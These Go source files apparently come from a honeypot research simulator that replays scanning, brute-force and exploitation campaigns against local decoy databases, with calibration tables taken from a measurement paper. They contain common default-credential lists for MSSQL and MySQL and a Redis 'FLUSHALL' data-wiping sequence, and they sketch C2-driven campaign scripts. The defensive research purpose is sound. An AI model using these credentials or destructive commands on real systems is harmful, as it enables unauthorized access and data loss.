	// Replay rebuilds its aggregates and farm marks, so the pinned
	// frames farm A retransmits on failback are deduplicated, never
	// double counted.
	victim.start(t)
	for i := 0; i < 10; i++ {
		sendA(100)
		sendB(100)
	}

	fwd1.Flush()
	fwd2.Flush()
	waitUntil(t, 60*time.Second, func() bool {
		return fwd1.Stats().SpoolFrames == 0 && spool1.Mark() == spool1.LastSeq()
	}, "farm A spool to drain")
	waitUntil(t, 60*time.Second, func() bool {
		return fwd2.Stats().SpoolFrames == 0 && spool2.Mark() == spool2.LastSeq()
	}, "farm B spool to drain")
	st1, st2 := fwd1.Stats(), fwd2.Stats()
	if err := fwd1.Close(); err != nil {
		t.Fatal(err)
	}
	if err := fwd2.Close(); err != nil {
		t.Fatal(err)
	}
	spool1.Close()
	spool2.Close()

	if got := st1.EventsAcked; got != uint64(totalA) {
		t.Fatalf("farm A acked %d events, sent %d", got, totalA)
	}
	if got := st2.EventsAcked; got != uint64(totalB) {
		t.Fatalf("farm B acked %d events, sent %d", got, totalB)
	}

	// The tier invariant: ANY collector's merged /query sees the whole
	// capture, every acked event exactly once. Ask a survivor (its
	// peer set includes the restarted victim) and the victim itself.
	for _, p := range procs {
		client := obs.NewClient(p.adminAddr, 10*time.Second)
		var q *obs.QueryResponse
		var err error
		// The restarted victim may still be warming up its peer
		// clients; retry until the whole tier responds.
		waitUntil(t, 30*time.Second, func() bool {
			q, err = client.Query(context.Background(), obs.QueryRequest{Limit: 1})
			return err == nil && q.Tier != nil && q.Tier.Responded == q.Tier.Collectors
		}, "full tier response via "+p.adminAddr)
		if q.Tier.Collectors != 3 {
			t.Fatalf("tier size via %s = %d, want 3", p.adminAddr, q.Tier.Collectors)
		}
		if got, want := q.Events, int64(totalA+totalB); got != want {
			t.Fatalf("merged /query via %s holds %d events, want exactly %d (every acked event once)",
				p.adminAddr, got, want)
		}
	}
	t.Logf("tier capture: %d+%d events, farm A failovers=%d reconnects=%d",
		totalA, totalB, st1.Failovers, st1.Reconnects)
}
