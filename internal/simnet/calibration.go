// Calibration tables: the population parameters the generator targets,
// derived from the paper's reported aggregates (Tables 5–12 and the
// prose of Sections 5–6). DESIGN.md Section 6 lists the provenance of
// each number.
package simnet

// Headline population targets.
const (
	// LowTierIPs is the number of unique sources on the low-interaction
	// tier over 20 days (paper Section 5).
	LowTierIPs = 3340
	// LowInstitutional is how many low-tier sources are on the
	// institutional scanner list.
	LowInstitutional = 1468
	// BruteForcers is the number of sources that attempted at least one
	// login.
	BruteForcers = 599
)

// Control-group split (paper Section 5: multi- vs single-service hosts).
const (
	SingleOnlyIPs = 177  // sources seen only on single-service hosts
	BothGroupIPs  = 1543 // sources seen on both groups
	// multi-only = LowTierIPs - SingleOnlyIPs - BothGroupIPs = 1620
	BruteSingleOnly = 41  // brute-forced single hosts only
	BruteMultiOnly  = 295 // brute-forced multi hosts only
)

// lowGroup is one (AS, country) block of the low-tier population.
type lowGroup struct {
	asn     uint32
	country string
	n       int // total actors in the block
	inst    int // of which institutional scanners
	brute   int // of which brute-forcers
	// Login attempt totals for the block at scale 1, split per DBMS.
	mysqlLogins int64
	mssqlLogins int64
	psqlLogins  int64
	// heavy marks the persistent high-volume brute-forcers (the four
	// AS208091 sources active 16–19 of 20 days).
	heavy bool
}

// lowGroups reproduces the AS/country composition behind Tables 5–7: who
// scans, who logs in, from where, and how hard.
var lowGroups = []lowGroup{
	// --- United States (1,934 sources, 101 brute, Table 5 row) ---
	{asn: 6939, country: "US", n: 643, inst: 540},
	{asn: 396982, country: "US", n: 560, inst: 400, brute: 40, mysqlLogins: 5101, mssqlLogins: 182},
	{asn: 14618, country: "US", n: 154},
	{asn: 398324, country: "US", n: 93, inst: 93},
	{asn: 63949, country: "US", n: 91, brute: 15, mysqlLogins: 1270},
	{asn: 395092, country: "US", n: 60, inst: 60},
	{asn: 59113, country: "US", n: 73, inst: 73},
	{asn: 64496, country: "US", n: 50, inst: 50},
	{asn: 14061, country: "US", n: 173, brute: 20, mysqlLogins: 1028},
	{asn: 20473, country: "US", n: 20, brute: 15, mssqlLogins: 30000},
	{asn: 213035, country: "US", n: 10, brute: 5, mssqlLogins: 24361},
	{asn: 0, country: "US", n: 7, brute: 6, mysqlLogins: 5224, psqlLogins: 13},
	// --- China (348 sources, 60 brute) ---
	{asn: 135377, country: "CN", n: 137, brute: 15, mysqlLogins: 551, mssqlLogins: 92},
	{asn: 4134, country: "CN", n: 112, brute: 20, mysqlLogins: 146, mssqlLogins: 517234},
	{asn: 4837, country: "CN", n: 94, brute: 20, mysqlLogins: 376},
	{asn: 45090, country: "CN", n: 5, brute: 5, mysqlLogins: 1784, mssqlLogins: 364184},
	// --- United Kingdom (310 sources) ---
	{asn: 211298, country: "GB", n: 252, inst: 252, brute: 1, mssqlLogins: 202},
	{asn: 14061, country: "GB", n: 30},
	{asn: 2856, country: "GB", n: 28},
	// --- Russia: 4 heavy AS208091 sources plus light telecom ones ---
	{asn: 208091, country: "RU", n: 4, brute: 4, mssqlLogins: 16628000, heavy: true},
	{asn: 12389, country: "RU", n: 11, brute: 5, mysqlLogins: 108, mssqlLogins: 1473},
	// --- Remaining Table 5 rows ---
	{asn: 3249, country: "EE", n: 2, brute: 2, mysqlLogins: 14, mssqlLogins: 160642},
	{asn: 4766, country: "KR", n: 11, brute: 6, mysqlLogins: 21522, mssqlLogins: 76005},
	{asn: 6849, country: "UA", n: 1, brute: 1, mssqlLogins: 96999},
	{asn: 58224, country: "IR", n: 2, brute: 1, mssqlLogins: 74856},
	{asn: 35805, country: "GE", n: 1, brute: 1, mssqlLogins: 62850},
	{asn: 6799, country: "GR", n: 1, brute: 1, mssqlLogins: 13040},
	{asn: 9829, country: "IN", n: 6, brute: 6, mysqlLogins: 19, mssqlLogins: 12472},
	{asn: 14061, country: "IN", n: 12},
	// DigitalOcean's remaining footprint (Table 6 total: 392 IPs).
	{asn: 14061, country: "DE", n: 60},
	{asn: 14061, country: "NL", n: 57},
	{asn: 14061, country: "SG", n: 60},
	// --- Tail: hosting brute (Table 7: Hosting dominates logins) ---
	{asn: 24940, country: "DE", n: 40, brute: 40, mssqlLogins: 3000},
	{asn: 51167, country: "DE", n: 25, brute: 18, mssqlLogins: 1200},
	{asn: 3320, country: "DE", n: 10, brute: 10, mssqlLogins: 500},
	{asn: 16276, country: "FR", n: 35, brute: 35, mssqlLogins: 2800},
	{asn: 12876, country: "FR", n: 15, brute: 12, mssqlLogins: 900},
	{asn: 3215, country: "FR", n: 8, brute: 5, mssqlLogins: 300},
	{asn: 49981, country: "NL", n: 20, brute: 20, mssqlLogins: 1500},
	{asn: 44477, country: "NL", n: 15, brute: 12, mssqlLogins: 900},
	{asn: 57043, country: "NL", n: 12, brute: 10, mssqlLogins: 600},
	{asn: 213035, country: "NL", n: 10, brute: 10, mssqlLogins: 700},
	{asn: 1136, country: "NL", n: 10, brute: 5, mssqlLogins: 250},
	{asn: 34224, country: "BG", n: 14, brute: 10, mssqlLogins: 700},
	{asn: 7473, country: "SG", n: 15, brute: 8, mssqlLogins: 2000},
	{asn: 7713, country: "ID", n: 20, brute: 15, mssqlLogins: 2500},
	// --- Tail: IP service & ICT brute (Table 7) ---
	{asn: 202425, country: "NL", n: 40, brute: 35, mssqlLogins: 1000},
	{asn: 13335, country: "DE", n: 15, brute: 12, mssqlLogins: 400},
	{asn: 19551, country: "NL", n: 15, brute: 13, mssqlLogins: 400},
	// --- Tail: unmapped sources (Table 7 Unknown = 148 brute) ---
	{asn: 0, country: "BR", n: 30, brute: 25, mssqlLogins: 1200},
	{asn: 0, country: "VN", n: 35, brute: 30, mssqlLogins: 1500},
	{asn: 0, country: "TR", n: 24, brute: 20, mssqlLogins: 1000},
	{asn: 0, country: "JP", n: 12, brute: 10, mssqlLogins: 500},
	{asn: 0, country: "PL", n: 16, brute: 12, mssqlLogins: 600},
	{asn: 0, country: "IT", n: 14, brute: 10, mssqlLogins: 500},
	{asn: 0, country: "ES", n: 14, brute: 10, mssqlLogins: 450},
	{asn: 0, country: "TH", n: 11, brute: 8, mssqlLogins: 400},
	{asn: 0, country: "PK", n: 11, brute: 8, mssqlLogins: 400},
	{asn: 0, country: "EG", n: 8, brute: 5, mssqlLogins: 250},
	{asn: 0, country: "MX", n: 8, brute: 2, mssqlLogins: 120},
	{asn: 0, country: "CA", n: 10},
	{asn: 0, country: "AU", n: 8},
	// The filler group absorbs whatever is left to reach LowTierIPs
	// exactly; it is appended programmatically in population.go.
}

// fillerCountries spread the remainder of the low-tier population over
// countries with no login activity.
var fillerCountries = []string{"BR", "VN", "TR", "JP", "CA", "AU", "AR", "CO", "NG", "ZA", "PT", "RO"}

// Medium/high-tier per-DBMS targets (paper Table 8).
type mhTarget struct {
	Scanning, Scouting, Exploiting int
	InstScanning                   int // institutional share of Scanning (§6.1)
}

var mhTargets = map[string]mhTarget{
	"elastic":  {Scanning: 608, Scouting: 627, Exploiting: 2, InstScanning: 456},
	"mongodb":  {Scanning: 706, Scouting: 465, Exploiting: 62, InstScanning: 415},
	"postgres": {Scanning: 1140, Scouting: 593, Exploiting: 222, InstScanning: 909},
	"redis":    {Scanning: 676, Scouting: 266, Exploiting: 38, InstScanning: 379},
}

// Campaign sizes (paper Table 9; the +1s reconcile Table 9 with the
// Table 8 exploiter columns, a discrepancy present in the paper itself).
const (
	nP2PInfect   = 35
	nABCbot      = 1
	nRedisCVE    = 1
	nRedisVandal = 1 // Table 8 Redis exploiting = 38
	nKinsing     = 196
	nPrivilege   = 26 // Table 9 says 25; Table 8 PSQL exploiting = 222
	nLucifer     = 2
	nRansomA     = 30  // ransom note template 1
	nRansomB     = 32  // ransom note template 2; 62 ransom IPs total
	nRDPScan     = 164 // RDP scans against PostgreSQL...
	nRDPBoth     = 14  // ...of which these also hit Redis (Figure 4 overlap)
	nJDWPScan    = 2
	nRedisBrute  = 5
	nPGBrute     = 84
	nCraftCMS    = 2
	nVMware      = 15
)

// exploiterGeo places campaign actors by (ASN, country), shaping the
// paper's Table 10 (exploiter countries) and Table 11 (exploiters sit
// overwhelmingly in Hosting space, with a notable Chinese telecom share).
type geoSlot struct {
	asn     uint32
	country string
	n       int
}

var kinsingGeo = []geoSlot{
	{20473, "US", 20}, {14061, "US", 9},
	{16276, "FR", 30},
	{24940, "DE", 27},
	{4134, "CN", 12}, {45090, "CN", 8},
	{44477, "GB", 15},
	{35048, "RU", 8}, {44477, "RU", 4},
	{7713, "ID", 7},
	{49981, "NL", 6},
	{45102, "SG", 4},
	{34224, "BG", 2},
	{262287, "BR", 12}, {135905, "VN", 10}, {34619, "TR", 8},
	{16276, "CA", 4}, {45430, "TH", 8}, {0, "CO", 2},
}

var privilegeGeo = []geoSlot{
	{20473, "US", 9}, {714, "US", 1}, // one Business-AS actor (Table 11)
	{24940, "DE", 2}, {4134, "CN", 2},
	{0, "PL", 3}, {0, "IT", 3},
	{1103, "NL", 1}, // one University-AS actor (Table 11)
	{0, "AR", 2}, {0, "ES", 2}, {0, "CO", 1},
}

var p2pinfectGeo = []geoSlot{
	{4134, "CN", 15}, {4812, "CN", 6},
	{7473, "SG", 4}, {45102, "SG", 2},
	{20473, "US", 1}, {34224, "BG", 1}, {49981, "NL", 1},
	{135905, "VN", 3}, {262287, "BR", 2},
}

var ransomAGeo = []geoSlot{
	{34224, "BG", 15}, {20473, "US", 6}, {49981, "NL", 3},
	{2856, "GB", 2}, {34619, "TR", 2}, {262287, "BR", 2},
}

var ransomBGeo = []geoSlot{
	{34224, "BG", 14}, {16509, "US", 6}, {57043, "NL", 3},
	{44477, "GB", 1}, {24940, "DE", 2}, {45102, "SG", 1},
	{135905, "VN", 3}, {34619, "TR", 2},
}

var rdpGeo = []geoSlot{
	{24940, "DE", 40}, {16276, "FR", 30}, {20473, "US", 30},
	{4134, "CN", 20}, {49981, "NL", 14}, {51167, "DE", 10},
	{0, "BR", 10}, {0, "VN", 10},
}

// Brute-force credential corpus scale-1 targets (paper Section 5).
const (
	UniqueUsernames = 14540
	UniquePasswords = 226961
)

// Top MSSQL credentials (paper Table 12), tried by every brute tool
// before its dictionary walk.
var topMSSQLCreds = [][2]string{
	{"sa", "123"},
	{"admin", "123456"},
	{"hbv7", ""},
	{"test", "1"},
	{"root", "aaaaaa"},
	{"user", "0"},
	{"administrator", "1234"},
	{"sa1", "P@ssw0rd"},
	{"petroleum", "12345"},
	{"sa2", "password"},
}

var topMySQLCreds = [][2]string{
	{"root", "root"},
	{"root", "123456"},
	{"admin", "admin"},
	{"root", ""},
	{"mysql", "mysql"},
	{"root", "password"},
	{"root", "12345678"},
	{"admin", "123456"},
	{"root", "qwerty"},
	{"backup", "backup"},
}
