// Package simnet simulates the Internet-facing side of the paper's
// experiment: a calibrated population of scanners, brute-forcers,
// scouts and exploitation campaigns driving real protocol traffic into
// the honeypot deployment over a virtual 20-day clock.
//
// The simulator is the substitution for live Internet exposure (see
// DESIGN.md): every interaction travels through a real net.Conn into the
// same handler code a live deployment would run, so the entire
// measurement pipeline downstream of the wire is exercised unmodified.
package simnet

import (
	"context"
	"fmt"
	"math/rand"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"decoydb/internal/bson"
	"decoydb/internal/bus"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/geoip"
)

// Config parameterises a run.
type Config struct {
	// Seed drives all randomness; identical configs produce identical
	// datasets.
	Seed int64
	// Scale divides brute-force login volume. 1 reproduces the paper's
	// 18.16M logins; the default (32) keeps a full run under a minute.
	Scale int
	// Days is the experiment length (default 20, max evstore.MaxDays).
	Days int
	// Deployment defaults to core.DefaultDeployment().
	Deployment *core.Deployment
	// Geo defaults to geoip.Default().
	Geo *geoip.DB
	// BusShards overrides the event-bus shard count (0 = GOMAXPROCS).
	BusShards int
	// Bus overrides the full event-bus configuration (queue sizes,
	// policy, adaptive water marks). The zero value keeps the historic
	// behaviour: default sizes, Block policy. Shards falls back to
	// BusShards when unset. Note that any policy other than Block makes
	// the dataset lossy under load and therefore no longer a pure
	// function of the seed.
	Bus bus.Options
	// OnBus, when set, is called with the event bus right after it is
	// built, before any session runs — the hook a binary uses to register
	// the live bus with its observability plane.
	OnBus func(*bus.Bus)
}

// DefaultScale balances fidelity and runtime for the default run.
const DefaultScale = 32

func (c Config) withDefaults() Config {
	if c.Scale < 1 {
		c.Scale = DefaultScale
	}
	if c.Days <= 0 || c.Days > evstore.MaxDays {
		c.Days = core.ExperimentDays
	}
	if c.Deployment == nil {
		c.Deployment = core.DefaultDeployment()
	}
	if c.Geo == nil {
		c.Geo = geoip.Default()
	}
	return c
}

// Result summarises a run.
type Result struct {
	Sessions   int64
	Errors     int64
	Population *Population
	Elapsed    time.Duration
	// Bus is the final event-transport counter snapshot: total events
	// enqueued/delivered, batch sizes, and per-sink delivery latency.
	Bus bus.Stats
}

// job is one scheduled client session.
type job struct {
	at     time.Time
	src    netip.AddrPort
	inst   *instance
	script Script
}

// Run executes the simulation, streaming events into the sinks.
//
// Events do not hit the sinks synchronously from session goroutines:
// they travel through a sharded bus.Bus in blocking (lossless) mode, so
// sinks receive batched deliveries off the session hot path — the same
// transport a live Farm deployment uses. The bus is drained and closed
// before Run returns, so the sinks are complete and quiescent
// afterwards. At least one sink is required.
func Run(ctx context.Context, cfg Config, sinks ...core.Sink) (*Result, error) {
	cfg = cfg.withDefaults()
	began := time.Now()

	insts := buildInstances(cfg.Deployment, cfg.Seed)
	pop, err := BuildPopulation(cfg.Seed, cfg.Scale, cfg.Days, cfg.Geo)
	if err != nil {
		return nil, err
	}
	corpus := newCredCorpus(cfg.Seed, cfg.Scale)

	// Default Block, never drop: the dataset must be a lossless function
	// of the seed for the paper's tables to reproduce. Config.Bus lets
	// robustness scenarios (see flood.go) opt into other policies.
	busOpts := cfg.Bus
	if busOpts.Shards <= 0 {
		busOpts.Shards = cfg.BusShards
	}
	evbus := bus.New(busOpts, sinks...)
	if cfg.OnBus != nil {
		cfg.OnBus(evbus)
	}

	// One serial queue per honeypot instance: sessions against the same
	// stateful honeypot (Redis keyspace, MongoDB store) execute in the
	// deterministic order the generator emits them, so the whole dataset
	// is a pure function of the seed. Different instances run in
	// parallel, which is also what a real deployment does.
	var sessions, errors atomic.Int64
	queues := make(map[*instance]chan job, len(insts.all))
	var wg sync.WaitGroup
	for _, in := range insts.all {
		q := make(chan job, 256)
		queues[in] = q
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := range q {
				sessions.Add(1)
				if err := runSession(ctx, j, evbus); err != nil {
					errors.Add(1)
				}
			}
		}()
	}

	gen := &jobGen{
		cfg: cfg, insts: insts, corpus: corpus,
		start: core.ExperimentStart, queues: queues, ctx: ctx,
	}
	err = gen.emitAll(pop)
	for _, q := range queues {
		close(q)
	}
	wg.Wait()
	busErr := evbus.Close() // drain even on the error paths below
	for _, s := range sinks {
		// Mirror Farm.Shutdown: flushable sinks (log writers, relay
		// forwarders) quiesce before Run returns.
		if fl, ok := s.(core.Flusher); ok {
			fl.Flush()
		}
	}
	if err != nil {
		return nil, err
	}
	if ctx.Err() != nil {
		return nil, ctx.Err()
	}
	if busErr != nil {
		return nil, fmt.Errorf("simnet: event transport: %w", busErr)
	}
	return &Result{
		Sessions:   sessions.Load(),
		Errors:     errors.Load(),
		Population: pop,
		Elapsed:    time.Since(began),
		Bus:        evbus.Stats(),
	}, nil
}

// sessionDeadline bounds one simulated session in wall-clock time; a
// stuck handler/script pair must not stall the run.
const sessionDeadline = 30 * time.Second

func runSession(ctx context.Context, j job, sink core.Sink) error {
	srv, cli := net.Pipe()
	deadline := time.Now().Add(sessionDeadline)
	_ = srv.SetDeadline(deadline)
	_ = cli.SetDeadline(deadline)
	sess := core.NewSession(j.inst.info, j.src, core.FixedClock(j.at), sink)
	done := make(chan error, 1)
	go func() {
		done <- core.ServeConn(ctx, j.inst.handler, srv, sess)
	}()
	scriptErr := j.script(cli)
	cli.Close()
	srvErr := <-done
	if scriptErr != nil {
		return scriptErr
	}
	return srvErr
}

// jobGen walks the population and emits every scheduled session.
type jobGen struct {
	cfg    Config
	insts  *instSet
	corpus *credCorpus
	start  time.Time
	queues map[*instance]chan job
	ctx    context.Context
}

func (g *jobGen) emit(j job) error {
	select {
	case g.queues[j.inst] <- j:
		return nil
	case <-g.ctx.Done():
		return g.ctx.Err()
	}
}

func (g *jobGen) emitAll(pop *Population) error {
	for _, a := range pop.Actors {
		if err := g.emitActor(a); err != nil {
			return err
		}
	}
	return nil
}

func (g *jobGen) emitActor(a *Actor) error {
	r := rand.New(rand.NewSource(a.Seed))
	port := uint16(1024 + r.Intn(1000))
	nextSrc := func() netip.AddrPort {
		port++
		if port < 1024 {
			port = 1024
		}
		return netip.AddrPortFrom(a.Addr, port)
	}
	at := func(day, hour int) time.Time {
		return g.start.Add(time.Duration(day)*24*time.Hour +
			time.Duration(hour)*time.Hour +
			time.Duration(r.Intn(3600))*time.Second)
	}

	// Low-tier scanning presence.
	if a.LowGroups != 0 {
		for _, day := range a.Days {
			for h := 0; h < a.HoursPerDay; h++ {
				hour := r.Intn(24)
				targets := g.pickLowTargets(r, a.LowGroups, 2+r.Intn(5))
				for _, in := range targets {
					if err := g.emit(job{at: at(day, hour), src: nextSrc(), inst: in, script: scanClose(in.info.DBMS)}); err != nil {
						return err
					}
				}
			}
		}
	}

	// Brute-force campaigns.
	if a.Brute != nil {
		if err := g.emitBrute(a, r, nextSrc, at); err != nil {
			return err
		}
	}

	// Medium/high behaviours.
	for _, spec := range a.MH {
		if err := g.emitMH(a, spec, r, nextSrc, at); err != nil {
			return err
		}
	}
	return nil
}

// pickLowTargets selects low-tier honeypot instances consistent with the
// actor's group-targeting mode.
func (g *jobGen) pickLowTargets(r *rand.Rand, mode, n int) []*instance {
	var pools [][]*instance
	for _, dbms := range []string{core.MySQL, core.Postgres, core.Redis, core.MSSQL} {
		if mode != targetSingleOnly {
			pools = append(pools, g.insts.lowMulti[dbms])
		}
		if mode != targetMultiOnly {
			pools = append(pools, g.insts.lowSingle[dbms])
		}
	}
	out := make([]*instance, 0, n)
	for i := 0; i < n; i++ {
		pool := pools[r.Intn(len(pools))]
		if len(pool) == 0 {
			continue
		}
		out = append(out, pool[r.Intn(len(pool))])
	}
	return out
}

func (g *jobGen) bruteTarget(r *rand.Rand, dbms string, mode int) *instance {
	var pool []*instance
	switch mode {
	case targetSingleOnly:
		pool = g.insts.lowSingle[dbms]
	case targetMultiOnly:
		pool = g.insts.lowMulti[dbms]
	default:
		if r.Intn(10) == 0 {
			pool = g.insts.lowSingle[dbms]
		} else {
			pool = g.insts.lowMulti[dbms]
		}
	}
	if len(pool) == 0 {
		return nil
	}
	return pool[r.Intn(len(pool))]
}

func (g *jobGen) emitBrute(a *Actor, r *rand.Rand, nextSrc func() netip.AddrPort, at func(day, hour int) time.Time) error {
	spec := a.Brute
	type stream struct {
		dbms     string
		attempts int64
		creds    *credStream
	}
	streams := []stream{}
	if spec.MSSQL > 0 {
		streams = append(streams, stream{core.MSSQL, spec.MSSQL, g.corpus.stream(a.Seed, topMSSQLCreds, "sa")})
	}
	if spec.MySQL > 0 {
		streams = append(streams, stream{core.MySQL, spec.MySQL, g.corpus.stream(a.Seed+1, topMySQLCreds, "root")})
	}
	if spec.PSQL > 0 {
		streams = append(streams, stream{core.Postgres, spec.PSQL, nil})
	}
	days := a.Days
	if len(days) == 0 {
		days = []int{0}
	}
	for _, st := range streams {
		perDay := st.attempts / int64(len(days))
		rem := st.attempts - perDay*int64(len(days))
		for di, day := range days {
			n := perDay
			if di == 0 {
				n += rem
			}
			for i := int64(0); i < n; i++ {
				// Spread attempts across the day's hours.
				hour := int(i * 24 / max64(n, 1))
				if a.HoursPerDay < 24 {
					hour = r.Intn(24)
				}
				target := g.bruteTarget(r, st.dbms, spec.Groups)
				if target == nil {
					continue
				}
				var script Script
				switch st.dbms {
				case core.MSSQL:
					u, p := st.creds.next()
					script = mssqlLogin(u, p)
				case core.MySQL:
					u, p := st.creds.next()
					script = mysqlLogin(u, p)
				case core.Postgres:
					// Single-combination behaviour the paper saw on 5432.
					script = pgLogin("postgres", "postgres", nil)
				}
				if err := g.emit(job{at: at(day, hour), src: nextSrc(), inst: target, script: script}); err != nil {
					return err
				}
			}
		}
	}
	return nil
}

func max64(a, b int64) int64 {
	if a > b {
		return a
	}
	return b
}

func (g *jobGen) emitMH(a *Actor, spec MHSpec, r *rand.Rand, nextSrc func() netip.AddrPort, at func(day, hour int) time.Time) error {
	days := a.Days
	if len(days) == 0 {
		days = []int{0}
	}
	pickMed := func(dbms string) *instance {
		pool := g.insts.medAny(dbms)
		return pool[r.Intn(len(pool))]
	}
	pickMedConfig := func(dbms, config string) *instance {
		pool := g.insts.med[dbms][config]
		return pool[r.Intn(len(pool))]
	}
	c2 := fmt.Sprintf("45.%d.%d.%d", 64+r.Intn(64), r.Intn(256), 1+r.Intn(254))
	c2port := 4000 + r.Intn(5000)
	hash := fmt.Sprintf("%08x%08x", r.Uint32(), r.Uint32())

	for _, day := range days {
		hour := r.Intn(24)
		var in *instance
		var script Script
		var extra []job

		switch spec.Kind {
		case kindScan:
			in = pickMed(spec.DBMS)
			script = scanClose(spec.DBMS)
		case kindScout:
			in, script = g.scoutScript(spec.DBMS, r, rand.New(rand.NewSource(a.Seed^0x5c007)), false)
		case kindDeepScout:
			in, script = g.scoutScript(spec.DBMS, r, rand.New(rand.NewSource(a.Seed^0x5c007)), true)
		case kindRDP:
			in = pickMed(spec.DBMS)
			if spec.DBMS == core.Postgres && a.Seed%3 == 0 {
				// A tooling variant wraps the cookie in a PostgreSQL-
				// shaped startup frame; the honeypot logs it as a
				// non-PostgreSQL handshake rather than raw junk.
				script = pgFramedRDPProbe()
			} else {
				script = rawProbe(rdpPayload())
			}
		case kindJDWP:
			in = pickMed(spec.DBMS)
			script = rawProbe(jdwpPayload())
		case kindP2PInfect:
			in = pickMed(core.Redis)
			script = redisCommands(p2pinfectCmds(c2, c2port, hash))
		case kindABCbot:
			in = pickMed(core.Redis)
			script = redisCommands(abcbotCmds(c2, c2port))
		case kindRedisCVE:
			in = pickMed(core.Redis)
			script = redisCommands(redisCVECmds())
		case kindVandal:
			in = pickMed(core.Redis)
			script = redisCommands([][]string{{"KEYS", "*"}, {"FLUSHALL"}})
		case kindKinsing:
			// Kinsing needs access: it works the open configuration. Four
			// script generations circulate (the paper clustered them into
			// four groups).
			in = pickMedConfig(core.Postgres, core.ConfigDefault)
			qs := kinsingQueries(c2, hash)
			switch variant := a.Seed % 4; variant {
			case 1:
				qs = append([]string{"SELECT version();"}, qs...)
			case 2:
				qs = append(qs, "SELECT pg_sleep(1);")
			case 3:
				qs = append([]string{"SET client_encoding TO 'UTF8';"}, qs...)
				qs = append(qs, "SELECT version();")
			}
			script = pgLogin("postgres", "postgres", qs)
		case kindPrivilege:
			in = pickMedConfig(core.Postgres, core.ConfigDefault)
			script = pgLogin("postgres", "postgres", privilegeQueries(hash[:12]))
		case kindLucifer:
			in = pickMed(core.Elastic)
			script = elasticRequests(luciferReqs(c2, c2port))
		case kindCraft:
			in = pickMed(core.Elastic)
			script = elasticRequests(craftReqs())
		case kindVMware:
			in = pickMed(core.Elastic)
			script = elasticRequests(vmwareReqs())
		case kindRedisBF:
			in = pickMed(core.Redis)
			cmds := make([][]string, 0, 20)
			for i := 0; i < 20; i++ {
				cmds = append(cmds, []string{"AUTH", g.corpus.passes[(r.Intn(len(g.corpus.passes)))]})
			}
			script = redisCommands(cmds)
		case kindPGBrute:
			// The restricted config attracts the aggressive credential
			// attacks (paper Section 6: 29,217 vs 14,084 logins). These
			// volumes are small in absolute terms, so they are never
			// scaled — scaling would invert the restricted/open ratio.
			nl := 40 + r.Intn(20)
			op := 8 + r.Intn(8)
			creds := g.corpus.stream(a.Seed+int64(day), topMSSQLCreds, "postgres")
			for i := 0; i < nl; i++ {
				u, p := creds.next()
				extra = append(extra, job{
					at: at(day, hour), src: nextSrc(),
					inst:   pickMedConfig(core.Postgres, core.ConfigNoLogin),
					script: pgLogin(u, p, nil),
				})
			}
			for i := 0; i < op; i++ {
				u, p := creds.next()
				extra = append(extra, job{
					at: at(day, hour), src: nextSrc(),
					inst:   pickMedConfig(core.Postgres, core.ConfigDefault),
					script: pgLogin(u, p, nil),
				})
			}
		case kindRansomA, kindRansomB:
			group := 0
			if spec.Kind == kindRansomB {
				group = 1
			}
			note := ransomNote(group,
				fmt.Sprintf("bc1q%08x", r.Uint32()),
				fmt.Sprintf("recover%d@onionmail.example", r.Intn(1000)),
				fmt.Sprintf("DB%06X", r.Intn(1<<24)))
			in = pickMed(core.MongoDB)
			script = mongoRansom(note)
		default:
			return fmt.Errorf("simnet: unknown behaviour kind %q", spec.Kind)
		}

		for _, j := range extra {
			if err := g.emit(j); err != nil {
				return err
			}
		}
		if script != nil {
			if err := g.emit(job{at: at(day, hour), src: nextSrc(), inst: in, script: script}); err != nil {
				return err
			}
		}
	}
	return nil
}

func maxInt(a, b int) int {
	if a > b {
		return a
	}
	return b
}

// scoutScript builds the information-gathering session for one DBMS.
// Deep scouting is the institutional-scanner behaviour the paper calls
// out: listing databases, collections and content. r picks the target
// instance (varies per session); vr composes the script and is seeded
// per actor, so one source runs the same tool every day — the property
// the TF clustering groups on.
func (g *jobGen) scoutScript(dbms string, r, vr *rand.Rand, deep bool) (*instance, Script) {
	switch dbms {
	case core.Elastic:
		in := g.insts.medAny(dbms)[r.Intn(len(g.insts.medAny(dbms)))]
		// Scouting tools differ in how much of the API they walk; the
		// behavioural variety is what the paper's clustering captures.
		pool := []httpReq{
			{method: "GET", target: "/_cat/indices"},
			{method: "GET", target: "/_cluster/health"},
			{method: "GET", target: "/_cat/nodes"},
			{method: "GET", target: "/_cluster/stats"},
			{method: "GET", target: "/_search?q=*"},
			{method: "GET", target: "/_all/_search"},
			{method: "GET", target: "/favicon.ico"},
		}
		reqs := []httpReq{{method: "GET", target: "/"}}
		k := 1 + vr.Intn(4)
		start := vr.Intn(len(pool))
		for i := 0; i < k; i++ {
			reqs = append(reqs, pool[(start+i*2)%len(pool)])
		}
		if deep {
			reqs = append(reqs,
				httpReq{method: "GET", target: "/_nodes"},
				httpReq{method: "GET", target: "/_cluster/stats"},
				httpReq{method: "GET", target: "/_search?q=*"},
			)
		}
		return in, elasticRequests(reqs)
	case core.MongoDB:
		in := g.insts.medAny(dbms)[r.Intn(len(g.insts.medAny(dbms)))]
		cmds := []bson.D{
			{{Key: "isMaster", Val: int32(1)}, {Key: "$db", Val: "admin"}},
		}
		if vr.Intn(2) == 0 {
			cmds = append(cmds, bson.D{{Key: "buildInfo", Val: int32(1)}, {Key: "$db", Val: "admin"}})
		}
		if vr.Intn(3) == 0 {
			cmds = append(cmds, bson.D{{Key: "serverStatus", Val: int32(1)}, {Key: "$db", Val: "admin"}})
		}
		if vr.Intn(3) == 0 {
			cmds = append(cmds, bson.D{{Key: "getLog", Val: "startupWarnings"}, {Key: "$db", Val: "admin"}})
		}
		if deep {
			cmds = append(cmds,
				bson.D{{Key: "listDatabases", Val: int32(1)}, {Key: "$db", Val: "admin"}},
				bson.D{{Key: "listCollections", Val: int32(1)}, {Key: "$db", Val: "customers"}},
			)
			if vr.Intn(2) == 0 {
				cmds = append(cmds, bson.D{{Key: "find", Val: "records"}, {Key: "limit", Val: int32(10)}, {Key: "$db", Val: "customers"}})
			}
			if vr.Intn(3) == 0 {
				cmds = append(cmds, bson.D{{Key: "count", Val: "records"}, {Key: "$db", Val: "customers"}})
			}
		} else {
			// A scout always issues at least one informational command
			// beyond the driver handshake.
			cmds = append(cmds, bson.D{{Key: "ping", Val: int32(1)}, {Key: "$db", Val: "admin"}})
		}
		return in, mongoCmds(cmds)
	case core.Postgres:
